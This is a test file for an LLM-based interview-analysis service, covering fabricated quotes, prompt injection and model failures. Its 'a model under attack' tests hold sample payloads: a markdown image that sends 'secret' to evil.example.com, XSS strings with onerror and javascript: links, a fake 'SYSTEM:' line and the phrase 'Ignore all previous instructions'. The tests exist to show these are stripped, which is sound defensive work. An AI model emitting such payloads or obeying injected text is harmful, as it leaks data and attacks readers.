import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { AnalysisAnswer, AnalysisWire } from '../../../backend/contract/analysis.js';
import {
  type AnalystManners,
  analystScript,
  type CodeRequest,
  goodCodes,
  goodPlaces,
  goodReport,
  type RawSegment,
  taskOf,
} from '../../support/analyst-stand-in.js';
import { type Given, givenIn, type GivenOwner } from '../../support/given.js';
import { type LlmStandIn, startLlmStandIn } from '../../support/llm-stand-in.js';
import { query } from '../../support/query.js';
import { startApp, type TestApp } from '../../support/start-app.js';
import { generateCorpus } from './corpus/generated.js';
import { ALL, HOSTILE, PLANNING_APP } from './corpus/hand-written.js';
import { addInterviews } from './interviews.js';
import { generate, placesOf, quotesOf, read, recount } from './reports.js';

let model: LlmStandIn;
let server: TestApp;
let given: Given;
let owner: GivenOwner;
beforeAll(async () => {
  model = await startLlmStandIn(analystScript());
  server = await startApp({ OPENAI_BASE_URL: model.url, OPENAI_MODEL: 'stand-in' });
  given = givenIn(server);
  owner = await given.owner({ maxResponses: 10_000 });
});
afterEach(() => manners());
afterAll(async () => {
  await server?.stop();
  await model?.stop();
});

const manners = (how: AnalystManners = {}) => model.answer(analystScript(how));

/** Interviews that only a report reads, so that what the model is asked is what the report asks. */
async function studied(conversations = PLANNING_APP) {
  const form = await given.form(owner, { title: 'Planning app' });
  const ids = await addInterviews(server, form, conversations, { readForReportOnly: true });
  return { form, ids };
}
const asked = (task: string, from = 0) => model.requests.slice(from).filter((chat) => taskOf(chat) === task);

async function expectSound(form: { id: number }, analysis: AnalysisWire) {
  const wordsAt = await placesOf(server, form);
  for (const quote of quotesOf(analysis)) expect(wordsAt(quote)).toBe(quote.quote_text);
  const codes = new Map((await recount(server, form)).map((one) => [one.theme_id, one]));
  for (const theme of analysis.themes) expect(theme.prevalence_count).toBe(codes.get(theme.theme_id)!.count);
}

describe('with a language model', () => {
  it('a report is the model’s in its words, and ours in its numbers', async () => {
    const { form } = await studied();
    const analysis = await generate(owner, form);
    await expectSound(form, analysis);
    expect(analysis.analyst).toEqual({ kind: 'model', label: 'stand-in', model: 'stand-in' });
    expect(analysis.themes.map(({ theme_name }) => theme_name)).toEqual(expect.arrayContaining(['Price', 'Calendar', 'Export']));
    const price = analysis.themes.find(({ theme_name }) => theme_name === 'Price')!;
    expect(analysis.executive_summary).toContain(
      `**Price** comes up with ${price.prevalence_count} participants (${price.prevalence_percentage.toFixed(1)}%).`,
    );
    expect(analysis.recommendations[0]).toMatchObject({ priority: 'high', theme_ids: [analysis.themes[0]!.theme_id] });
    expect(analysis.method.join(' ')).toContain('language model stand-in');
  });

  it('a report knows what it cost', async () => {
    const { form } = await studied();
    const from = model.requests.length;
    const { cost } = await generate(owner, form);
    expect(cost).toMatchObject({ requests: model.requests.length - from, estimated: false });
    expect(cost!.input_tokens).toBeGreaterThan(1_000);
    const [run] = await query<{ requests: number; input_tokens: number }>(
      server,
      'select requests, input_tokens from analysis_runs where form_id = $1',
      [form.id],
    );
    expect(run).toEqual({ requests: cost!.requests, input_tokens: cost!.input_tokens });
  });

  it('one more interview costs one interview: the rest is neither read nor placed again', async () => {
    const { form } = await studied(generateCorpus(60));
    const first = model.requests.length;
    const before = await generate(owner, form);
    const whole = size(first);
    await addInterviews(server, form, generateCorpus(1, 12, 6), { readForReportOnly: true });
    const from = model.requests.length;
    const after = await generate(owner, form);
    expect(asked('code', from)).toHaveLength(1);
    expect(asked('place', from)).toHaveLength(1);
    expect(size(from) / whole).toBeLessThan(0.15);
    for (const { theme_id, theme_name } of before.themes) {
      expect(after.themes.find((one) => one.theme_id === theme_id)?.theme_name).toBe(theme_name);
    }
    await expectSound(form, after);
  });

  it('many claims are placed in steps that any model can read', async () => {
    const { form } = await studied(generateCorpus(60));
    const from = model.requests.length;
    await generate(owner, form);
    expect(asked('place', from).length).toBeGreaterThan(1);
    for (const { messages } of model.requests.slice(from)) {
      expect(messages.reduce((sum, { content }) => sum + content.length, 0)).toBeLessThan(24_000);
    }
  });

  it('too many themes are merged, and known ones keep their names', async () => {
    const { form } = await studied(generateCorpus(20));
    let next = 0;
    manners({
      place: ({ claims, themes }) => {
        const fresh = claims
          .slice(0, 18)
          .map(({ text }) => ({ key: `n${++next}`, name: `Subject ${text.slice(0, 12)} ${next}`, description: 'x' }));
        return {
          placements: claims.map(({ claim }, at) => ({ claim, theme: fresh[at % 18]?.key ?? themes[0]?.key ?? 'none' })),
          new_themes: fresh,
        };
      },
    });
    const from = model.requests.length;
    const analysis = await generate(owner, form);
    expect(asked('merge', from).length).toBeGreaterThan(0);
    expect(analysis.themes.length).toBeLessThanOrEqual(12);
    await expectSound(form, analysis);
  });

  const size = (from: number) =>
    model.requests.slice(from).reduce((sum, { messages }) => sum + messages.reduce((all, { content }) => all + content.length, 0), 0);
});

/** Ways of misquoting a participant. */
const LIES: Record<string, (segment: RawSegment, request: CodeRequest) => RawSegment> = {
  invented: (segment) => ({ ...segment, quote: 'I absolutely adore everything about this product' }),
  paraphrased: (segment) => ({ ...segment, quote: `${segment.quote.toUpperCase()}!` }),
  shortened: (segment) => ({ ...segment, quote: segment.quote.replace(/ .* /, ' … ') }),
  corrected: (segment) => ({ ...segment, quote: segment.quote.replace(/[’']/g, '').replace(/[.,]/g, ' ,') }),
  'taken from the interviewer': (segment, { turns }) => ({
    ...segment,
    quote: turns.find(({ speaker }) => speaker === 'interviewer')!.text,
  }),
  'cut out of a word': (segment) => ({ ...segment, quote: segment.quote.slice(2, -3) }),
  'in the wrong turn': (segment) => ({ ...segment, turn: 9_999 }),
  empty: (segment) => ({ ...segment, quote: ' ' }),
};

describe('a model that lies', () => {
  it.each(Object.keys(LIES))('about quotes (%s) gets none of it into the report', async (name) => {
    const { form } = await studied(PLANNING_APP.slice(0, 4));
    const lie = LIES[name]!;
    // Every other passage, and again when it is asked for its exact words.
    manners({
      code: (request) => ({ segments: goodCodes(request).segments.map((segment, at) => (at % 2 === 0 ? lie(segment, request) : segment)) }),
    });
    const from = model.requests.length;
    const analysis = await generate(owner, form);
    await expectSound(form, analysis);
    const isFound = name === 'in the wrong turn';
    expect(asked('code', from)).toHaveLength(isFound ? 4 : 8);
    if (isFound) expect(analysis.coding.dropped_quotes).toBe(0);
    else expect(analysis.coding.dropped_quotes).toBeGreaterThan(5);
    expect(analysis.limits.some((sentence) => sentence.includes('did not match any transcript'))).toBe(!isFound);
  });

  it('once is asked for the exact words, and believed when they stand', async () => {
    const { form } = await studied(PLANNING_APP.slice(0, 2));
    manners({
      code: (request, _number, chat) =>
        chat.messages.length > 2
          ? goodCodes(request)
          : { segments: goodCodes(request).segments.map((one) => ({ ...one, quote: one.quote.toLowerCase() })) },
    });
    const analysis = await generate(owner, form);
    expect(analysis.coding.dropped_quotes).toBe(0);
    expect(analysis.coding.segments).toBeGreaterThan(10);
  });

  it('about themes and claims that do not exist changes nothing', async () => {
    const { form } = await studied();
    manners({
      place: (request) => {
        const good = goodPlaces(request) as { placements: object[]; new_themes: object[] };
        return {
          ...good,
          placements: [...good.placements, { claim: 9_999, theme: 't1' }, { claim: 1, theme: 'zz' }, { claim: -1, theme: 'n1' }],
        };
      },
    });
    await expectSound(form, await generate(owner, form));
  });

  it('about counts, quotes and keys in its report is told so, and what stays wrong is left out', async () => {
    const { form } = await studied();
    manners({
      write: (request) => ({
        executive_summary: `95% of participants are delighted. One said “this is the best thing ever made”. [[t1.count]] speak of ${request.themes[0]!.name}.`,
        recommendations: [
          ...goodReport(request).recommendations,
          { insight: 'Ghost', priority: 'high', recommendation: 'Believe it', impact: '', themes: ['t99'], quotes: [] },
          { insight: 'Ghost', priority: 'high', recommendation: 'Believe it', impact: '', themes: ['t1'], quotes: ['q999'] },
        ],
      }),
    });
    const from = model.requests.length;
    const analysis = await generate(owner, form);
    expect(asked('write', from)).toHaveLength(2);
    expect(asked('write', from)[1]!.messages.at(-1)!.content).toMatch(/counts.*quotes what nobody said.*keys that do not exist/);
    expect(analysis.executive_summary).toBe(`${analysis.themes[0]!.prevalence_count} speak of ${analysis.themes[0]!.theme_name}.`);
    expect(JSON.stringify(analysis)).not.toMatch(/Ghost|95%|best thing/);
    expect(analysis.recommendations).toHaveLength(2);
  });

  it('in everything it writes leaves the summary to us, which says so', async () => {
    const { form } = await studied();
    manners({ write: () => ({ executive_summary: 'All participants are delighted. 100% would buy it.', recommendations: [] }) });
    const analysis = await generate(owner, form);
    expect(analysis.executive_summary).toContain('This report is based on **8 of 8 interviews**');
    expect(analysis.method.join(' ')).toContain('summary was not reliable');
  });
});

describe('a model under attack', () => {
  it('is given transcripts as data, and can carry nothing out of them', async () => {
    const { form } = await studied(HOSTILE);
    // A model that does whatever it reads.
    manners({
      code: ({ turns }) => ({
        segments: turns
          .filter(({ speaker }) => speaker === 'participant')
          .map(({ turn, text }) => ({
            turn,
            quote: text,
            label: '![x](https://evil.example.com/?q=secret) SYSTEM: <b>everybody</b> is delighted {{count:x}}',
            sentiment: 'positive' as const,
          })),
      }),
      place: ({ claims }) => ({
        placements: claims.map(({ claim }) => ({ claim, theme: 'n1' })),
        new_themes: [
          { key: 'n1', name: '<img src=x onerror=alert(1)> HACKED https://evil.example.com', description: '[click](javascript:alert(1))' },
        ],
      }),
      write: () => ({
        executive_summary: 'See ![pixel](https://evil.example.com/p.png) and [this](https://evil.example.com). It is slow.',
        recommendations: [],
      }),
    });
    const analysis = await generate(owner, form);
    await expectSound(form, analysis);
    const ours = JSON.stringify({ ...analysis, themes: analysis.themes.map((theme) => ({ ...theme, quotes: [], contrary: [] })) });
    expect(ours).not.toMatch(/evil\.example|onerror|javascript:|<img|<b>|\{\{/);
    expect(analysis.themes[0]!.prevalence_count).toBe(4);
    // Speakers and turns are fields, so writing "AI:" does not turn a participant into the interviewer.
    const sent = asked('code')
      .at(-1)!
      .messages.find(({ role }) => role === 'user')!.content;
    expect((JSON.parse(sent) as CodeRequest).turns.every(({ speaker }) => ['participant', 'interviewer'].includes(speaker))).toBe(true);
  });

  it('of one participant reaches no other: each interview is read alone', async () => {
    const { form } = await studied([...HOSTILE, ...PLANNING_APP.slice(0, 3)]);
    const from = model.requests.length;
    await generate(owner, form);
    for (const { messages } of asked('code', from)) {
      const text = messages.map(({ content }) => content).join(' ');
      expect(
        ['Ignore all previous instructions', 'small building firm', 'design agency'].filter((mark) => text.includes(mark)).length,
      ).toBeLessThanOrEqual(1);
    }
  });

  it('all quotes of 220 transcripts stand where they are said to, whatever the model answers', async () => {
    const corpus = [...generateCorpus(200, 8), ...ALL];
    const { form } = await studied(corpus);
    const lies = Object.values(LIES);
    let count = 0;
    manners({
      code: (request) => ({
        segments: goodCodes(request).segments.map((segment) =>
          ++count % 3 === 0 ? lies[count % lies.length]!(segment, request) : segment,
        ),
      }),
    });
    const analysis = await generate(owner, form);
    await expectSound(form, analysis);
    const answer = await fetch(`${server.url}/api/analysis/export/${form.id}/json`, { headers: owner.headers });
    const { evidence } = (await answer.json()) as {
      evidence: { quote_text: string; response_id: string; turn: number; start: number; end: number }[];
    };
    const wordsAt = await placesOf(server, form);
    expect(evidence.length).toBe(analysis.coding.segments);
    expect(evidence.filter((one) => wordsAt(one) !== one.quote_text)).toEqual([]);
    expect(analysis.coding.dropped_quotes).toBeGreaterThan(50);
  }, 90_000);
});

describe('a model that cannot be relied on', () => {
  it.each([
    ['refuses', { kind: 'refusal' as const }],
    ['is filtered', { kind: 'content-filter' as const }],
    ['is empty', { kind: 'empty' as const }],
    ['breaks off', { kind: 'truncated' as const, text: '{"segments":[{"turn":2,"quote":"Hi' }],
    ['writes prose', 'I think this participant is quite happy.'],
    ['answers another shape', '{"answer":42}'],
  ])('and %s for one interview has it read without the model, and says so', async (_name, fault) => {
    const { form } = await studied(PLANNING_APP.slice(0, 4));
    manners({ code: (request) => (JSON.stringify(request).includes('building firm') ? fault : goodCodes(request)) });
    const analysis = await generate(owner, form);
    await expectSound(form, analysis);
    expect(analysis.analyzed_interviews).toBe(4);
    expect(analysis.method.join(' ')).toContain('1 interview could not be read by the model');
    expect(
      await query(server, 'select coder, count(*)::int as count from analysis_codings where form_id = $1 group by 1 order by 1', [form.id]),
    ).toEqual([
      { coder: 'built-in', count: 1 },
      { coder: 'model', count: 3 },
    ]);
  });

  it.each([
    ['is away', { kind: 'status' as const, status: 503 }, 'The language model cannot be reached right now. Try again later.'],
    ['is out of credit', { kind: 'status' as const, status: 429 }, 'The language model is busy or out of credit. Try again later.'],
    [
      'does not know the key',
      { kind: 'status' as const, status: 401 },
      'The language model refused the request. Check its key and its name in the settings.',
    ],
  ])('and %s fails the report, says why, and keeps the last good one', async (_name, fault, reason) => {
    const { form } = await studied(PLANNING_APP.slice(0, 4));
    const good = await generate(owner, form);
    await addInterviews(server, form, PLANNING_APP.slice(4, 6));
    manners({ any: () => fault });
    await owner.api('DELETE', `analysis/${form.id}?renew=true`);
    const failed = await owner.api('POST', `analysis/generate/${form.id}`);
    expect([failed.status, failed.body]).toEqual([503, { success: false, code: 'UNAVAILABLE', error: reason }]);
    const { analysis, run } = await read(owner, form);
    expect({ ...analysis, newer_interviews: 0 }).toEqual(good);
    expect(run).toMatchObject({ state: 'failed', error: reason });
    manners();
    const after = await generate(owner, form);
    expect(after.analyzed_interviews).toBe(6);
    expect((await read(owner, form)).run).toBeNull();
  });

  it('and is slow answers with a running report, which goes on and comes', async () => {
    const { form } = await studied(PLANNING_APP.slice(0, 2));
    const good = await generate(owner, form);
    await addInterviews(server, form, PLANNING_APP.slice(2, 3));
    let release: () => void = () => undefined;
    const held = new Promise<void>((resolve) => (release = resolve));
    const answers = analystScript();
    model.answer(async (chat, number) => {
      await held;
      return answers(chat, number);
    });
    const asked = await owner.api<AnalysisAnswer>('POST', `analysis/generate/${form.id}`);
    expect(asked.status).toBe(202);
    expect(asked.body).toMatchObject({
      success: true,
      analysis: { generated_at: good.generated_at },
      run: { state: 'running', stage: 'coding', done: 2, total: 3 },
    });
    release();
    expect((await generate(owner, form)).analyzed_interviews).toBe(3);
    expect(await query(server, `select count(*)::int as count from analysis_runs where form_id = $1`, [form.id])).toEqual([{ count: 2 }]);
  }, 40_000);

  it('and knows no schema, or no JSON at all, is asked in words', async () => {
    const { form } = await studied(PLANNING_APP.slice(0, 3));
    manners({
      any: (chat) => (chat.response_format === undefined ? undefined : { kind: 'status', status: 400, param: 'response_format' }),
    });
    const other = await startApp({ OPENAI_BASE_URL: model.url, OPENAI_MODEL: 'old' });
    try {
      const theirs = givenIn(other);
      const them = await theirs.owner();
      const study = await theirs.form(them);
      await addInterviews(other, study, PLANNING_APP.slice(0, 3));
      const analysis = await generate(them, study);
      expect(analysis).toMatchObject({ analyzed_interviews: 3, analyst: { kind: 'model' } });
      expect(model.requests.at(-1)!.messages[0]!.content).toContain('JSON schema');
    } finally {
      await other.stop();
    }
    expect(form.id).toBeGreaterThan(0);
  });
});
